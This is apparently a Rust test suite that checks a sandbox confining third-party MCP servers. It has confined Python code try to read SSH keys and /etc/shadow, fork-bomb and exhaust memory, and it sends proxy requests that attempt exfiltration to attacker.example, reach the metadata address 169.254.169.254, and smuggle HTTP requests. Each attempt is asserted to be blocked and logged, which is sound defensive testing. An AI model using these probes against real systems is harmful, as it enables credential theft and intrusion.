//! MCP servers of third parties under grants: what a hostile one reaches, what stops it, and what
//! the operator reads of it. The server executes what a test tells it.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::sync::Arc;

use conclave_core::config::{Config, ProblemCode, Problems};
use conclave_core::types::denial::{DenialRecord, Layer};
use conclave_core::types::tool::ToolError;
use conclave_mcp::source::Servers;
use conclave_runtime::exec::ProgramLauncher;
use conclave_runtime::native::{self, Plugin};
use conclave_runtime::{Host, HostOptions, Prepared, RunOptions};
use conclave_test_support::{Rig, bare, block_on, program, until};
use serde_json::json;

use crate::mcp::data;

fn host(rig: &Rig) -> Host {
    let home = rig.root().join("home");
    std::fs::create_dir_all(home.join(".ssh")).expect("a folder");
    std::fs::write(home.join(".ssh/id"), "TOP-SECRET").expect("a file");
    let servers = Servers::new(|name| std::env::var(name).ok());
    let launcher = ProgramLauncher {
        program: program(),
        args: vec!["run-program".into()],
        folder: std::env::temp_dir(),
    };
    let (servers, launcher) = (Some(Arc::new(servers) as _), Some(launcher));
    let agent = Plugin::agent("agent", |_| async { Ok(native::finish("")) });
    let native = vec![agent];
    Host::new(HostOptions { native, servers, launcher, ..HostOptions::default() }).expect("a host")
}

/// A server that obeys, with these keys of its source and these lines of its plugin.
fn config(rig: &Rig, keys: &str, lines: &str) -> Config {
    started_with(rig, "", keys, lines)
}

/// The same, which executes this at its start.
fn started_with(rig: &Rig, code: &str, keys: &str, lines: &str) -> Config {
    let script = data("obeys.py");
    let text = format!(
        "entry = \"main\"\n[plugins.agent]\nsource = \"native:agent\"\n[plugins.it]\n\
         source = {{ mcp = {{ command = [\"python3\", {script:?}, {code:?}]{keys} }} }}\n{lines}\n\
         [tasks.main]\nagent = \"agent\"\n[[policy]]\ntool = \"it.*\"\ndecide = \"allow\"\n"
    );
    let folder = rig.folder().display().to_string();
    Config::parse("c.toml", &folder, &text).unwrap_or_else(|problems| panic!("{problems}"))
}

fn load(rig: &Rig, config: &Config) -> Result<Prepared, Problems> {
    block_on(async { host(rig).load(config).await.map_err(Problems::from) })
}

/// Whether this machine can confine servers. If it cannot, one is refused.
pub(crate) fn confines() -> bool {
    if !bare("python3").arg("--version").output().is_ok_and(|answer| answer.status.success()) {
        eprintln!("skipped: there is no python3");
        return false;
    }
    let rig = Rig::new();
    match load(&rig, &config(&rig, "", "")) {
        Ok(_) => true,
        Err(problems) => {
            assert_eq!(problems.codes(), [ProblemCode::NotConfined], "{problems}");
            eprintln!("skipped: {problems}");
            false
        }
    }
}

/// Calls the server once for each piece of code, with one life if it survives. Returns the answers,
/// and what was refused meanwhile.
fn all(
    rig: &Rig,
    config: &Config,
    codes: &[&str],
) -> (Vec<Result<String, ToolError>>, Vec<DenialRecord>) {
    block_on(async {
        let prepared = host(rig).load(config).await.unwrap_or_else(|error| panic!("{error}"));
        let (mut answers, mut denials) = (Vec::new(), Vec::new());
        for code in codes {
            let arguments = json!({ "code": code });
            let run = prepared.call_tool("it.run", arguments, RunOptions::default()).await;
            let run = run.expect("a run");
            answers.push(run.answer.map(|outcome| outcome.content.unwrap_or_default()));
            denials.extend(run.report.denials);
        }
        (answers, denials)
    })
}

/// What one piece of code prints.
fn prints(rig: &Rig, keys: &str, lines: &str, code: &str) -> String {
    let (answers, _) = all(rig, &config(rig, keys, lines), &[code]);
    answers
        .into_iter()
        .next()
        .expect("a test's own part")
        .unwrap_or_else(|error| panic!("{error:?}"))
}

/// Python that prints what becomes of each expression.
fn each(expressions: &[&str]) -> String {
    let expressions = serde_json::to_string(expressions).expect("JSON");
    format!(
        "import os, socket\nfor it in {expressions}:\n  try: print('REACHED', it, eval(it))\n  except OSError as error: print(type(error).__name__)\n"
    )
}

#[test]
fn a_server_without_grants_reaches_nothing_of_the_machine() {
    if !confines() {
        return;
    }
    let rig =
        Rig::new().with_file("other/notes.txt", "TOP-SECRET").with_file("c.toml", "TOP-SECRET");
    let at = |name: &str| rig.folder().join(name).display().to_string();
    let ssh = rig.root().join("home/.ssh/id");
    std::fs::create_dir_all(ssh.parent().unwrap()).unwrap();
    std::fs::write(&ssh, "TOP-SECRET").unwrap();
    let open = |path: String| format!("open({path:?}).read()");
    let expressions = [
        open(ssh.display().to_string()),
        open(at("other/notes.txt")),
        open(at("c.toml")),
        open("/etc/passwd".to_owned()),
        open("/etc/shadow".to_owned()),
        open(format!("/proc/{}/environ", std::process::id())),
        format!("os.listdir({:?})", at("other")),
        "os.listdir('/')".to_owned(),
        "os.listdir('/tmp')".to_owned(),
        "open('/tmp/x', 'w')".to_owned(),
        format!("open({:?}, 'w')", at("new.txt")),
        format!("os.remove({:?})", at("c.toml")),
        format!("os.chmod({:?}, 0o777)", at("c.toml")),
        format!("os.kill({}, 9)", std::process::id()),
        "socket.socket()".to_owned(),
        "socket.socket(socket.AF_UNIX)".to_owned(),
        "os.execv('/bin/sh', ['sh'])".to_owned(),
    ];
    let code = each(&expressions.iter().map(String::as_str).collect::<Vec<_>>());
    let found = prints(&rig, "", "", &code);
    assert_eq!(found.lines().count(), expressions.len(), "{found}");
    assert!(!found.contains("REACHED") && !found.contains("TOP-SECRET"), "{found}");
    assert!(rig.folder().join("c.toml").exists());
    // Its home is empty, its own, and takes files.
    let code = "import os, tempfile\nprint(os.listdir(os.environ['HOME']))\nwith tempfile.TemporaryFile() as file: print(file.write(b'abc'))";
    assert_eq!(prints(&rig, "", "", code), "[]\n3\n");
}

#[test]
fn a_server_has_its_granted_folders_at_their_places_and_no_others() {
    if !confines() {
        return;
    }
    let rig = Rig::new()
        .with_file("docs/a.txt", "may be read")
        .with_file("out/b.txt", "old")
        .with_file("private/c.txt", "TOP-SECRET");
    let lines =
        "grants.files = [\"docs\", { dir = \"out\", at = \"/out\", mode = \"read-write\" }]";
    let at = |name: &str| rig.folder().join(name).display().to_string();
    let code = format!(
        "print(open({:?}).read())\nopen({:?}, 'w').write('new')\n{}",
        at("docs/a.txt"),
        at("out/b.txt"),
        each(&[
            &format!("open({:?}, 'w')", at("docs/a.txt")),
            &format!("open({:?}).read()", at("private/c.txt")),
            &format!("open({:?}).read()", at("out/../private/c.txt")),
        ])
    );
    let link = rig.folder().join("docs/link");
    std::os::unix::fs::symlink(rig.folder().join("private/c.txt"), &link).unwrap();
    let found = prints(&rig, "", lines, &code);
    // The folder is mounted read-only.
    assert_eq!(found, "may be read\nOSError\nPermissionError\nPermissionError\n");
    assert_eq!(std::fs::read_to_string(rig.folder().join("out/b.txt")).unwrap(), "new");
    let code = each(&[&format!("open({:?}).read()", link.display().to_string())]);
    assert_eq!(prints(&rig, "", lines, &code), "PermissionError\n");
}

#[test]
fn a_server_is_ended_at_its_limits_and_started_anew() {
    if !confines() {
        return;
    }
    let rig = Rig::new();
    let fork_bomb = "import os, time\ntry:\n  while True:\n    if os.fork() == 0: time.sleep(60)\nexcept OSError: print('held')";
    let memory = "kept = []\nwhile True: kept.append(bytearray(1 << 20))";
    let threads = "import threading, time\ntry:\n  while True: threading.Thread(target=time.sleep, args=(60,)).start()\nexcept RuntimeError: print('held')";
    let computes = "while True: pass";
    for (keys, code) in [
        (", processes = 24", fork_bomb),
        (", processes = 24", threads),
        (", memory = \"100 MiB\"", memory),
        (", cpu = \"1 s\"", computes),
    ] {
        let config = config(&rig, keys, "limits = { wall = \"60 s\" }");
        let (answers, _) = all(&rig, &config, &[code, "print('back')", "print('back')"]);
        let unavailable = Err(ToolError::Unavailable { retry_after_ms: None });
        // Python may notice that the kernel gives no more, before the host does.
        let is_held = answers[0] == unavailable
            || answers[0]
                .as_ref()
                .is_ok_and(|text| text.contains("MemoryError") || text.contains("held"));
        assert!(is_held, "{keys}: {answers:?}");
        // It is ended at the limit, also while the next call is under way.
        assert!(answers[1..].contains(&Ok("back\n".to_owned())), "{keys}: {answers:?}");
    }
}

/// Returns the processes with this word in their command line.
fn holding(word: &str) -> usize {
    let processes = std::fs::read_dir("/proc").into_iter().flatten().flatten();
    let holds = |entry: &std::fs::DirEntry| {
        let line = std::fs::read(entry.path().join("cmdline")).unwrap_or_default();
        line.split(|byte| *byte == 0).any(|part| part == word.as_bytes())
    };
    processes.filter(holds).count()
}

#[test]
fn what_left_the_group_of_a_server_ends_with_it() {
    if !confines() {
        return;
    }
    let marker = format!("7{:07}", std::process::id());
    let rig = Rig::new();
    // Started by the start of the server, in a session of its own, twice removed from it.
    let code = format!(
        "import os, subprocess, sys\nif os.fork() == 0:\n  os.setsid()\n  if os.fork() == 0:\n    subprocess.run([sys.executable, '-c', 'import time, signal; signal.signal(15, signal.SIG_IGN); time.sleep(600)', {marker:?}], stdin=subprocess.DEVNULL)\n  os._exit(0)\n"
    );
    let config = started_with(&rig, &code, "", "");
    block_on(async {
        let prepared = host(&rig).load(&config).await.unwrap_or_else(|error| panic!("{error}"));
        until("the child", || (holding(&marker) == 1).then_some(()));
        drop(prepared);
    });
    assert_eq!(holding(&marker), 0, "it was killed before the drop was over");
}

/// A server of HTTP that counts its connections and answers each with `hello`.
fn site() -> (u16, Arc<std::sync::Mutex<Vec<String>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a listener");
    let port = listener.local_addr().expect("its address").port();
    let heads = Arc::<std::sync::Mutex<Vec<String>>>::default();
    let seen = Arc::clone(&heads);
    std::thread::spawn(move || {
        for mut connection in listener.incoming().flatten() {
            let mut head = Vec::new();
            let mut buffer = [0; 4_096];
            while !head.windows(4).any(|end| end == b"\r\n\r\n") {
                match connection.read(&mut buffer) {
                    Ok(0) | Err(_) => break,
                    Ok(read) => head.extend_from_slice(&buffer[..read]),
                }
            }
            seen.lock()
                .expect("a test's own part")
                .push(String::from_utf8_lossy(&head).into_owned());
            let answer = "HTTP/1.1 200 OK\r\ncontent-length: 5\r\n\r\nhello";
            let _ = connection.write_all(answer.as_bytes());
        }
    });
    (port, heads)
}

/// Python that speaks to the proxy: `say(TEXT)` prints the first line of the answer, or its end.
const SAY: &str = r#"
import os, socket
def say(*texts):
    s = socket.create_connection(('127.0.0.1', int(os.environ['HTTP_PROXY'].rsplit(':', 1)[1])))
    s.settimeout(10)
    for text in texts:
        s.sendall(text.encode('latin1'))
        got = s.recv(65536).decode('latin1')
        print(got.split('\r\n')[0] if got else 'closed')
    return s
"#;

fn fetch(grants: &str, port: u16) -> String {
    let private = "private = [\"127.0.0.1\"]";
    format!(
        "grants.fetch = {{ urls = [{}], {private} }}",
        grants.replace("PORT", &port.to_string())
    )
}

#[test]
fn a_granted_address_is_reached_by_the_proxy_and_no_other_way() {
    if !confines() {
        return;
    }
    let (port, heads) = site();
    let rig = Rig::new();
    let rules = "\"http://127.0.0.1:PORT/*\", { url = \"https://127.0.0.1:PORT/*\", methods = [\"CONNECT\"] }";
    let lines = fetch(rules, port);
    let code = format!(
        "{SAY}
import urllib.request
print(urllib.request.urlopen('http://127.0.0.1:{port}/a').read().decode())
s = say('CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n')
s.sendall(b'GET /in-a-tunnel HTTP/1.1\\r\\n\\r\\n')
print(s.recv(65536).decode().split('\\r\\n')[0])
try: socket.create_connection(('127.0.0.1', {port}), 5); print('REACHED')
except OSError as error: print(type(error).__name__)
try: socket.create_connection(('1.1.1.1', 80), 5); print('REACHED')
except OSError as error: print(error.strerror)
try: print('REACHED', socket.getaddrinfo('example.org', 80))
except OSError as error: print(type(error).__name__)
"
    );
    let found = prints(&rig, "", &lines, &code);
    let expected = "hello\nHTTP/1.1 200 OK\nHTTP/1.1 200 OK\nConnectionRefusedError\nNetwork is unreachable\ngaierror\n";
    assert_eq!(found, expected);
    let heads = heads.lock().unwrap();
    assert!(heads[0].starts_with("GET /a HTTP/1.1\r\n"), "{heads:?}");
    assert!(heads[1].starts_with("GET /in-a-tunnel"), "{heads:?}");
}

#[test]
fn what_the_proxy_refuses_goes_nowhere_and_is_in_the_audit() {
    if !confines() {
        return;
    }
    let (port, heads) = site();
    let (other, others) = site();
    let rig = Rig::new();
    let rules = "\"http://127.0.0.1:PORT/granted/*\", { url = \"https://127.0.0.1:PORT/*\", methods = [\"CONNECT\"] }, \"https://far.example/*\", { url = \"https://localhost/*\", methods = [\"CONNECT\"] }";
    let lines = format!("grants.fetch = [{}]", rules.replace("PORT", &port.to_string()));
    let connect = |target: &str| format!("CONNECT {target} HTTP/1.1\\r\\n\\r\\n");
    let get = |target: &str| format!("GET {target} HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n");
    let attempts = [
        // A private address is granted by name, and not as a network.
        (connect(&format!("127.0.0.1:{port}")), 403),
        (get(&format!("http://127.0.0.1:{port}/granted/a")), 403),
        // A name that stands for one.
        (connect("localhost:443"), 403),
        (connect(&format!("127.0.0.1:{other}")), 403),
        (connect("93.184.216.34:443"), 403),
        (connect("[::1]:443"), 403),
        (connect("169.254.169.254:80"), 403),
        // The number of the granted address in another spelling.
        (connect(&format!("2130706433:{port}")), 403),
        (connect("far.example:443"), 403),
        (connect("far.example:22"), 403),
        (connect("a.b.c.secret-data.attacker.example:443"), 403),
        (connect("far.example"), 400),
        (connect("user@far.example:443"), 400),
        (connect("far\\x00.example:443"), 400),
        (connect("far\\xff.example:443"), 400),
        (get("http://attacker.example/"), 403),
        (get(&format!("http://127.0.0.1:{port}/other")), 403),
        (get(&format!("http://127.0.0.1:{port}/granted/../other")), 403),
        (get(&format!("http://127.0.0.1:{port}/granted/%2e%2e%2fother")), 400),
        (get("https://far.example/"), 400),
        (get("ftp://far.example/"), 400),
        (get("/granted/a"), 400),
        (
            format!(
                "POST http://127.0.0.1:{port}/granted/a HTTP/1.1\\r\\ncontent-length: 1\\r\\n\\r\\nx"
            ),
            403,
        ),
        (
            format!(
                "GET http://127.0.0.1:{port}/granted/a HTTP/1.1\\r\\nx-original-url: /other\\r\\n\\r\\n"
            ),
            403,
        ),
    ];
    let says: Vec<String> = attempts.iter().map(|(text, _)| format!("say('{text}')")).collect();
    let config = config(&rig, "", &lines);
    let (answers, denials) = all(&rig, &config, &[&format!("{SAY}\n{}", says.join("\n"))]);
    let found = answers[0].clone().unwrap();
    let codes: Vec<&str> =
        found.lines().map(|line| line.split(' ').nth(1).unwrap_or(line)).collect();
    for ((text, code), found) in attempts.iter().zip(&codes) {
        assert_eq!(*found, code.to_string(), "{text}");
    }
    assert_eq!(codes.len(), attempts.len());
    assert!(heads.lock().unwrap().is_empty() && others.lock().unwrap().is_empty());
    let of = |target: &str| denials.iter().find(|record| record.denial.target == target);
    let attacker = of("http://attacker.example/").expect("it is recorded");
    assert_eq!((attacker.layer, attacker.denial.capability.as_str()), (Layer::Config, "fetch"));
    let line = attacker.suggestion.as_deref().unwrap_or_default();
    assert!(
        line.contains("[plugins.it] grants.fetch") && line.contains("http://attacker.example/")
    );
    let tunnel = of("https://far.example/").expect("it is recorded");
    assert!(
        tunnel.suggestion.as_deref().is_some_and(|line| line.contains("CONNECT")),
        "{tunnel:?}"
    );
    assert!(
        tunnel.reason.contains("gives https://far.example/* GET, HEAD, not CONNECT"),
        "{tunnel:?}"
    );
}

#[test]
fn a_connection_to_the_proxy_carries_one_request() {
    if !confines() {
        return;
    }
    let (port, heads) = site();
    let (other, others) = site();
    let rig = Rig::new();
    let lines = fetch("\"http://127.0.0.1:PORT/*\"", port);
    let first =
        format!("GET http://127.0.0.1:{port}/a HTTP/1.1\\r\\nconnection: keep-alive\\r\\n\\r\\n");
    let second = format!("GET http://127.0.0.1:{other}/b HTTP/1.1\\r\\n\\r\\n");
    // One after the other; both at once; and the second in the body of the first, which two
    // programs could measure differently.
    let smuggled = format!(
        "GET http://127.0.0.1:{port}/c HTTP/1.1\\r\\ncontent-length: 4\\r\\ntransfer-encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n{second}"
    );
    let code = format!(
        "{SAY}\nfor texts in [['{first}', '{second}'], ['{first}{second}'], ['{smuggled}']]:\n  try: say(*texts)\n  except OSError as error: print('closed')\n"
    );
    let found = prints(&rig, "", &lines, &code);
    assert!(found.starts_with("HTTP/1.1 200 OK\nclosed\nHTTP/1.1 200 OK\n"), "{found}");
    assert!(others.lock().unwrap().is_empty(), "{found}");
    let heads = heads.lock().unwrap();
    assert!(heads.iter().all(|head| !head.contains("/b")), "{heads:?}");
}

#[test]
fn the_limits_of_a_grant_hold_for_the_life_of_a_server() {
    if !confines() {
        return;
    }
    let (port, _) = site();
    let rig = Rig::new();
    let lines = fetch("\"http://127.0.0.1:PORT/*\"", port)
        .replace("private", "requests = 2, request_size = \"1 KiB\", private");
    let get = format!("say('GET http://127.0.0.1:{port}/ HTTP/1.1\\r\\n\\r\\n')");
    let code = format!("{SAY}\n{get}\n{get}\n{get}\n");
    let found = prints(&rig, "", &lines, &code);
    assert_eq!(found, "HTTP/1.1 200 OK\nHTTP/1.1 200 OK\nHTTP/1.1 403 Forbidden\n");
}

#[test]
fn what_a_server_wanted_at_its_start_is_in_the_warnings() {
    if !confines() {
        return;
    }
    let rig = Rig::new();
    let lines = "grants.fetch = [\"https://far.example/*\"]";
    let code = format!(
        "{SAY}\nimport io, contextlib\nwith contextlib.redirect_stdout(io.StringIO()): say('CONNECT registry.example:443 HTTP/1.1\\r\\n\\r\\n')\n"
    );
    let config = started_with(&rig, &code, "", lines);
    let prepared = load(&rig, &config).unwrap_or_else(|problems| panic!("{problems}"));
    let warnings = prepared.warnings().to_string();
    assert!(
        warnings.contains("refused fetch https://registry.example/ while it started"),
        "{warnings}"
    );
    assert!(warnings.contains("methods = [\"CONNECT\"]"), "{warnings}");
}

#[test]
fn a_program_that_is_not_there_or_not_allowed_says_so() {
    if !confines() {
        return;
    }
    let rig = Rig::new();
    let why = |command: &str| {
        let text = format!(
            "entry = \"main\"\n[plugins.agent]\nsource = \"native:agent\"\n[plugins.it]\nsource = {{ mcp = {{ command = {command} }} }}\n[tasks.main]\nagent = \"agent\"\n"
        );
        let folder = rig.folder().display().to_string();
        let config = Config::parse("c.toml", &folder, &text).unwrap();
        load(&rig, &config).err().map(|problems| problems.to_string()).unwrap_or_default()
    };
    assert!(why("[\"no-such-server\"]").contains("there is no program no-such-server"));
    assert!(why("[\"npx\", \"-y\", \"no-such-package-here\"]").contains("npx has not installed"));
    let denied = why("[\"/bin/sh\", \"-c\", \"cat /etc/shadow\"]");
    assert!(denied.contains("config/plugin-refused") && denied.contains("it said: "), "{denied}");
    assert!(Path::new("/bin/sh").exists());
}
